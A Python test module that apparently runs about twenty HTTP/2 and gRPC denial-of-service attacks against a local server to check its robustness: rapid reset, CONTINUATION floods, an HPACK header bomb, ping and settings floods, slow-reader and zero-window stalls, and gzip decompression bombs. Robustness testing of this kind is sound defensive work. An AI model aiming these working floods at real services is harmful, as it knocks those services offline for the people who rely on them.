"""What clients do that mean harm: `python -m tests.front.abuse.attacks NAME PORT SECONDS` attacks for so long.

Each attack takes a connection and a test whether the time is over; when the server hangs up, the attack connects again.
"""

from __future__ import annotations

import gzip
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Callable

from google.protobuf.struct_pb2 import Struct

from bench.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    RST_STREAM,
    frame,
    grpc_message,
    request_headers,
    settings,
    window_update,
)

PRIORITY = 2
STREAM_IDS = range(1, 2**31 - 1, 2)


class HungUp(Exception):
    """The server has closed the connection."""


class Connection:
    """A socket of an attacker. `send` does not wait for a server that reads no more."""

    def __init__(self, port: int, until: float, window: int | None = None) -> None:
        self._until = until
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        self._socket.settimeout(0.5)
        self.send(PREFACE + settings({} if window is None else {INITIAL_WINDOW_SIZE: window}))

    @property
    def is_over(self) -> bool:
        return time.monotonic() > self._until

    def send(self, data: bytes) -> None:
        """Send all of it, or wait until the time is over. Raises: HungUp."""
        view = memoryview(data)
        while view and not self.is_over:
            try:
                view = view[self._socket.send(view) :]
            except TimeoutError:
                continue
            except OSError:
                raise HungUp from None

    def drop(self) -> None:
        """Read away what is there. Raises: HungUp."""
        self._socket.setblocking(False)
        try:
            while True:
                if not self._socket.recv(1 << 20):
                    raise HungUp
        except BlockingIOError:
            pass
        except OSError:
            raise HungUp from None
        finally:
            self._socket.settimeout(0.5)

    def hold(self, *, reading: bool) -> None:
        """Keep the connection until the time is over."""
        while not self.is_over:
            if reading:
                self.drop()
            time.sleep(0.05)

    def close(self) -> None:
        self._socket.close()


def _headers(path: str, further: tuple[tuple[str, str], ...] = ()) -> bytes:
    return request_headers("front", path, further)


def _call(stream: int, path: str, message: bytes = b"", further: tuple[tuple[str, str], ...] = ()) -> bytes:
    headers = frame(HEADERS, END_HEADERS, stream, _headers(path, further))
    return headers + frame(DATA, END_STREAM, stream, grpc_message(message))


def _struct(**values: float) -> bytes:
    made = Struct()
    for name, value in values.items():
        made[name] = value
    return made.SerializeToString()


def rapid_reset(connection: Connection) -> None:
    """Calls, each reset at once."""
    cancel = struct.pack(">I", 8)
    for start in range(1, 2**31, 200):
        streams = range(start, start + 200, 2)
        connection.send(b"".join(_call(one, "/t.T/Echo") + frame(RST_STREAM, 0, one, cancel) for one in streams))
        connection.drop()
        if connection.is_over:
            return


def made_you_reset(connection: Connection) -> None:
    """Calls whose streams the server has to reset: window updates of zero."""
    for start in range(1, 2**31, 200):
        connection.send(
            b"".join(
                frame(HEADERS, END_HEADERS, one, _headers("/t.T/Echo")) + window_update(one, 0)
                for one in range(start, start + 200, 2)
            )
        )
        connection.drop()
        if connection.is_over:
            return


def _repeated(data: bytes, *, reading: bool) -> Callable[[Connection], None]:
    def run(connection: Connection) -> None:
        while not connection.is_over:
            connection.send(data)
            if reading:
                connection.drop()

    return run


def continuation_flood(connection: Connection) -> None:
    """A header block that never ends."""
    connection.send(frame(HEADERS, 0, 1, _headers("/t.T/Echo")))
    _repeated(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * 20, reading=True)(connection)


def empty_continuation_flood(connection: Connection) -> None:
    """The same, of empty frames."""
    connection.send(frame(HEADERS, 0, 1, _headers("/t.T/Echo")))
    _repeated(frame(CONTINUATION, 0, 1) * 500, reading=True)(connection)


def endless_headers(connection: Connection) -> None:
    """Header lists far over the bound, stream after stream."""
    for one in STREAM_IDS:
        block = _headers("/t.T/Echo", tuple((f"x-{number}", "y" * 8000) for number in range(40)))
        pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        connection.send(frame(HEADERS, END_STREAM, one, pieces[0]))
        for piece in pieces[1:-1]:
            connection.send(frame(CONTINUATION, 0, one, piece))
        connection.send(frame(CONTINUATION, END_HEADERS, one, pieces[-1]))
        connection.drop()
        if connection.is_over:
            return


def header_bomb(connection: Connection) -> None:
    """One long entry in the server's header table, named thousands of times by one byte each."""
    entry = b"\x40" + b"\x01a" + b"\x7f\xa1\x1e" + b"b" * 4000  # 127 + 0x21 + 0x1e * 128: about 4,000 bytes
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, _headers("/t.T/Echo") + entry))
    for one in range(3, 2**31, 2):
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, one, _headers("/t.T/Echo") + b"\xbe" * 15_000))
        connection.drop()
        if connection.is_over:
            return


def slow_reader(connection: Connection) -> None:
    """Long streams that nobody reads."""
    connection.send(window_update(0, 2**31 - 1 - 65_535))
    wanted = _struct(size=20_000, count=1_000_000)
    connection.send(b"".join(_call(one, "/t.T/Stream", wanted) for one in range(1, 8192, 2)))
    connection.hold(reading=False)


def zero_window(connection: Connection) -> None:
    """Answers that have nowhere to go."""
    wanted = _struct(size=300_000)
    for start in range(1, 8192, 128):
        connection.send(b"".join(_call(one, "/t.T/Sized", wanted) for one in range(start, start + 128, 2)))
        connection.drop()
    connection.hold(reading=True)


def many_streams(connection: Connection) -> None:
    """4,097 streams at once."""
    for start in range(1, 8195, 128):
        streams = range(start, min(start + 128, 8195), 2)
        connection.send(b"".join(frame(HEADERS, END_HEADERS, one, _headers("/t.T/Each")) for one in streams))
        connection.drop()
    connection.hold(reading=True)


def many_streams_without_end(connection: Connection) -> None:
    """4,096 unary calls that never say that they are whole."""
    for one in range(1, 8192, 2):
        connection.send(frame(HEADERS, END_HEADERS, one, _headers("/t.T/Echo")))
        connection.send(frame(DATA, 0, one, b"\0\0\x01\0\0" + bytes(15_000)))
        connection.drop()
    connection.hold(reading=True)


def cut_frames(connection: Connection) -> None:
    """A frame that ends in its middle; then the next connection."""
    whole = _call(1, "/t.T/Echo", bytes(200)) + frame(PING, 0, 0, bytes(8))
    for _ in range(5):
        connection.send(whole[: random.randrange(1, len(whole))])
        raise HungUp


def message_of_5_mib(connection: Connection) -> None:
    """Messages over the limit, sent in full whatever the server says."""
    for one in STREAM_IDS:
        connection.send(frame(HEADERS, END_HEADERS, one, _headers("/t.T/Echo")))
        connection.send(frame(DATA, 0, one, b"\0" + struct.pack(">I", 5 << 20)))
        for _ in range(3):
            connection.send(frame(DATA, 0, one, bytes(16_000)))
            connection.drop()
        connection.send(frame(RST_STREAM, 0, one, struct.pack(">I", 8)))
        time.sleep(0.01)
        if connection.is_over:
            return


def bombs(connection: Connection) -> None:
    """Small messages that are large once they are decompressed, on streams that never end."""
    packed = gzip.compress(bytes(4_000_000))
    body = b"\x01" + struct.pack(">I", len(packed)) + packed
    for path in ("/t.T/Echo", "/t.T/Early", "/t.T/Each"):
        connection.send(b"")
        for one in range({"/t.T/Echo": 1, "/t.T/Early": 1001, "/t.T/Each": 2001}[path], 9999, 20):
            connection.send(frame(HEADERS, END_HEADERS, one, _headers(path, (("grpc-encoding", "gzip"),))))
            connection.send(frame(DATA, 0, one, body))
            connection.drop()
            if one > {"/t.T/Echo": 900, "/t.T/Early": 1900, "/t.T/Each": 9000}[path]:
                break
    connection.hold(reading=True)


def unread_messages(connection: Connection) -> None:
    """Thousands of messages for a method that takes one."""
    connection.send(frame(HEADERS, END_HEADERS, 1, _headers("/t.T/Echo")))
    _repeated(frame(DATA, 0, 1, b"\0\0\0\0\0" * 3000) * 4, reading=True)(connection)


def empty_data(connection: Connection) -> None:
    """Frames with nothing in them."""
    connection.send(frame(HEADERS, END_HEADERS, 1, _headers("/t.T/Each")))
    _repeated(frame(DATA, 0, 1) * 1000, reading=True)(connection)


ATTACKS: dict[str, Callable[[Connection], None]] = {
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "continuation_flood": continuation_flood,
    "empty_continuation_flood": empty_continuation_flood,
    "endless_headers": endless_headers,
    "header_bomb": header_bomb,
    "settings_flood": _repeated(settings({INITIAL_WINDOW_SIZE: 65_535}) * 500, reading=False),
    "settings_flood_read": _repeated(settings({INITIAL_WINDOW_SIZE: 65_535}) * 500, reading=True),
    "ping_flood": _repeated(frame(PING, 0, 0, bytes(8)) * 500, reading=False),
    "window_update_flood": _repeated(window_update(0, 1) * 500, reading=True),
    "priority_flood": _repeated(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1)) * 500, reading=True),
    "slow_reader": slow_reader,
    "zero_window": zero_window,
    "many_streams": many_streams,
    "many_streams_without_end": many_streams_without_end,
    "cut_frames": cut_frames,
    "message_of_5_mib": message_of_5_mib,
    "bombs": bombs,
    "unread_messages": unread_messages,
    "empty_data": empty_data,
}
_WINDOWS = {"zero_window": 0, "slow_reader": 2**31 - 1}


def main(name: str, port: int, seconds: float) -> None:
    """Attack until the time is over."""
    os.nice(10)  # the server and the other caller share the machine with the attacker
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            connection = Connection(port, until, _WINDOWS.get(name))
        except (OSError, HungUp):
            time.sleep(0.01)
            continue
        try:
            ATTACKS[name](connection)
        except HungUp:
            time.sleep(0.001)
        finally:
            connection.close()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
